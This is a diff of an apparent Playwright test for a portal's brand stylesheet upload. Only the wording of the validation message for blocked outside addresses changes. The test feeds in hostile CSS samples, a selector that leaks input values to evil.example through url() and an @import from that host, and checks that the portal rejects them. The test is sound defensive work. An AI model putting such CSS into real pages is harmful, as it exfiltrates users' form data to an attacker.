@@ -164,7 +164,7 @@ test.describe('brand stylesheet', () => {
     await choose(page, 'leak.css', 'input[value^="a"] { background: url(https://evil.example/?k=a); }');
     await expect(
       brand(page).getByText(
-        'A stylesheet may only use files of this portal in url(); addresses of other sites are not allowed.',
+        'A stylesheet may only use files of this portal; addresses of other sites are not allowed, in url() or in any text.',
       ),
     ).toBeVisible();
     await choose(page, 'import.css', '@import url("https://evil.example/x.css");');
